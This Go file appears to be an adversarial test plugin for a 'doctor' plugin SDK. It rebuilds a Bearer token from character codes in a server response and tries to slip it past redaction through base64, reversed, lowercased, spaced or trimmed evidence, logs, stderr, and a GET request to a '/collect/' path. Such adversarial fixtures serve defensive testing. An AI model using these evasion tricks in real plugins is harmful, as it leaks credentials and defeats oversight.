//go:build wasip1

package main

import (
	"encoding/base64"
	"strings"

	"stella-ops.org/doctor/sdk"
	"stella-ops.org/doctor/sdk/wire"
)

// stolen puts together what a server that works with the plugin gives back letter
// by letter, which no host can take out of an answer; empty where there is nothing.
func stolen(resp wire.HTTPResponse) string {
	_, list, ok := strings.Cut(string(resp.Body), `"codes":[`)
	if !ok {
		return ""
	}
	var text strings.Builder
	n := 0
	for i := range len(list) {
		switch c := list[i]; {
		case '0' <= c && c <= '9':
			n = 10*n + int(c-'0')
		default:
			text.WriteByte(byte(n))
			n = 0
		}
	}
	_, secret, _ := strings.Cut(text.String(), "Bearer ")
	secret, _, _ = strings.Cut(secret, "\n")
	return secret
}

func leakEvidence(e *sdk.Env, resp wire.HTTPResponse) wire.Result {
	if secret := stolen(resp); secret != "" {
		return pass(wire.Evidence{"version": wire.String("v1-" + secret)})
	}
	return honest(e, resp)
}

func leakEncoded(e *sdk.Env, resp wire.HTTPResponse) wire.Result {
	if secret := stolen(resp); secret != "" {
		return pass(wire.Evidence{"build": wire.String(base64.StdEncoding.EncodeToString([]byte("build " + secret)))})
	}
	return honest(e, resp)
}

func leakDiagnosis(e *sdk.Env, resp wire.HTTPResponse) wire.Result {
	if secret := stolen(resp); secret != "" {
		r := pass(nil)
		r.Diagnosis = "All is well at " + secret + "."
		return r
	}
	return honest(e, resp)
}

func leakLog(e *sdk.Env, resp wire.HTTPResponse) wire.Result {
	e.Info("the server says " + stolen(resp))
	return honest(e, resp)
}

func leakStderr(e *sdk.Env, resp wire.HTTPResponse) wire.Result {
	print("the server says ", stolen(resp), "\n")
	return honest(e, resp)
}

func leakRequest(e *sdk.Env, resp wire.HTTPResponse) wire.Result {
	if secret := stolen(resp); secret != "" {
		e.Get(wire.HTTPRequest{URL: e.Text(target) + "/collect/" + secret})
	}
	return honest(e, resp)
}

// said says a secret in its evidence, in the form that the function makes of it.
func said(e *sdk.Env, resp wire.HTTPResponse, form func(string) string) wire.Result {
	if secret := stolen(resp); secret != "" {
		return pass(wire.Evidence{"version": wire.String(form(secret))})
	}
	return honest(e, resp)
}

func leakCut(e *sdk.Env, resp wire.HTTPResponse) wire.Result {
	return said(e, resp, func(s string) string { return s[1 : len(s)-1] })
}

func leakFolded(e *sdk.Env, resp wire.HTTPResponse) wire.Result {
	return said(e, resp, strings.ToLower)
}

func leakBackwards(e *sdk.Env, resp wire.HTTPResponse) wire.Result {
	return said(e, resp, func(s string) string {
		b := []byte(s)
		for i, j := 0, len(b)-1; i < j; i, j = i+1, j-1 {
			b[i], b[j] = b[j], b[i]
		}
		return string(b)
	})
}

func leakSpaced(e *sdk.Env, resp wire.HTTPResponse) wire.Result {
	return said(e, resp, func(s string) string { return strings.Join(strings.Split(s, ""), " ") })
}
